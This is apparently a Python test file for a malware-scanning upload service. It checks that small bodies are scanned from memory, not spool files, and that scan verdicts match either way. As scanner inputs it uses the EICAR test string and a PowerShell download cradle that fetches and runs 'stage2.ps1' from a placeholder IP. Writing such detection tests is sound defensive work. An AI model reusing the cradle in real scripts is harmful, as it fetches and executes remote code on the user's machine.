"""Small bodies without file churn (issue 19, target 3): a submission whose Content-Length is at most
1 MiB (and not gzip-encoded) is received into memory (a memfd), scanned from there, and never
creates a file in the spool directory; larger, chunked or gzip-encoded bodies still go to a spool
file. Verdicts are the same either way.

The path taken is observed while the upload is in flight: the request is sent with only part of its
body, and the server's descriptors (/proc/PID/fd: a "memfd:sandgate-upload") and the spool
directory are looked at before the rest is sent.
"""
import gzip
import hashlib
import os
import socket
import time
import unittest

from harness import ServerTestCase


def eicar():
    # Built at run time: no committed file contains the test string in one piece.
    return ("X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*").encode()


CRADLE = (b"$c = New-Object Net.WebClient\n"
          b"IEX ($c.DownloadString('http://198.51.100.7/stage2.ps1'))\n")


class SmallBodyTest(ServerTestCase):
    def org(self, name):
        org, admin, _ = self.new_org(name)
        r = self.provider().patch(f"/api/v1/provider/orgs/{org}",
                                  {"ratePerSecond": 1000, "ratePerHour": 100000, "dailyAllowance": 1000})
        self.assertEqual(r.status, 200, r)
        return admin, self.reveal(admin)

    def memfds(self):
        """How many in-memory uploads the server holds (distinct files: one may have two
        descriptors while it is written)."""
        inodes = set()
        fd_dir = "/proc/%d/fd" % self.server.proc.pid
        for fd in os.listdir(fd_dir):
            try:
                path = os.path.join(fd_dir, fd)
                if os.readlink(path).startswith("/memfd:sandgate-upload"):
                    inodes.add(os.stat(path).st_ino)
            except OSError:
                pass  # closed meanwhile
        return len(inodes)

    def spool_files(self):
        spool = os.path.join(self.server.data, "spool")
        return sorted(f for f in os.listdir(spool) if f.startswith("upload-")) if os.path.isdir(spool) else []

    def wait_for(self, what, cond, seconds=20):
        deadline = time.time() + seconds
        while time.time() < deadline:  # bounded in time and count (20 ms steps)
            if cond():
                return
            time.sleep(0.02)
        self.fail("timed out waiting for " + what)

    def start_upload(self, token, total, first, query="&force=1", path="/zscsb/submit"):
        s = socket.create_connection(("127.0.0.1", self.server.port), timeout=30)
        head = (f"POST {path}?api_token={token}{query} HTTP/1.1\r\nHost: sandgate\r\n"
                f"Content-Type: application/octet-stream\r\nContent-Length: {total}\r\n"
                "Connection: close\r\n\r\n").encode()
        s.sendall(head + first)
        return s

    def finish_upload(self, s, rest):
        s.sendall(rest)
        data = b""
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
        s.close()
        head, _, body = data.partition(b"\r\n\r\n")
        return int(head.split()[1]), body

    def submit(self, token, body, path="/zscsb/discan", headers=None):
        c = self.server.client()
        h = {"Content-Type": "application/octet-stream"}
        h.update(headers or {})
        r = c.request("POST", f"{path}?api_token={token}", raw=body, headers=h)
        c.close()
        return r

    def test_1_a_1_KiB_body_stays_in_memory(self):
        _, token = self.org("Small Co")
        body = (b"a small clean text file, nothing to see here.\n" * 23)[:1024]
        self.assertEqual(self.spool_files(), [])
        for i in range(5):
            # The previous round's file is released once its rules ran (on the workers).
            self.wait_for("the in-memory uploads to be released", lambda: self.memfds() == 0)
            s = self.start_upload(token, len(body), body[:512])
            self.wait_for("the in-memory upload (round %d)" % i, lambda: self.memfds() == 1)
            self.assertEqual(self.spool_files(), [], "round %d: a 1 KiB body created a spool file" % i)
            status, answer = self.finish_upload(s, body[512:])
            self.assertEqual(status, 200, answer[:300])
            self.assertIn(b'"md5":"%s"' % hashlib.md5(body).hexdigest().upper().encode(), answer)
        # The rule analysis (later, on the workers) reads it from memory too, then lets it go.
        self.wait_for("the in-memory uploads to be released", lambda: self.memfds() == 0)
        self.assertEqual(self.spool_files(), [])

    def test_2_a_2_MiB_body_goes_to_a_spool_file(self):
        _, token = self.org("Large Co")
        body = os.urandom(2 << 20)
        s = self.start_upload(token, len(body), body[:4096])
        self.wait_for("the spool file", lambda: len(self.spool_files()) == 1)
        self.assertEqual(self.memfds(), 0)
        status, answer = self.finish_upload(s, body[4096:])
        self.assertEqual(status, 200, answer[:300])
        self.wait_for("the spool file to be removed", lambda: self.spool_files() == [])

    def test_3_verdicts_are_the_same_from_memory_and_from_a_file(self):
        admin, token = self.org("Verdict Co")
        for name, data in (("eicar", eicar()), ("cradle", CRADLE)):
            # Gzip-encoded (the same bytes once decoded): a spool file. Plain: in memory (last,
            # so that the stored report is the in-memory one).
            filed = self.submit(token, gzip.compress(data), headers={"Content-Encoding": "gzip"})
            self.assertEqual(filed.status, 200, filed)
            mem = self.submit(token, data)
            self.assertEqual(mem.status, 200, mem)
            self.assertEqual(mem.json, filed.json, name)
            self.assertEqual(mem.json["md5"], hashlib.md5(data).hexdigest().upper())
        self.assertTrue(self.submit(token, eicar()).json["virusName"])
        r = admin.get("/api/v1/sandbox/report/%s?details=full" % hashlib.md5(CRADLE).hexdigest())
        self.assertEqual(r.status, 200, r)
        self.assertIn("Sandgate_PowerShell_Download_Cradle", r.raw, "YARA read the in-memory body")

    def test_9_no_secrets_in_the_log(self):
        self.server.assert_no_secrets_in_log(self)


if __name__ == "__main__":
    unittest.main()
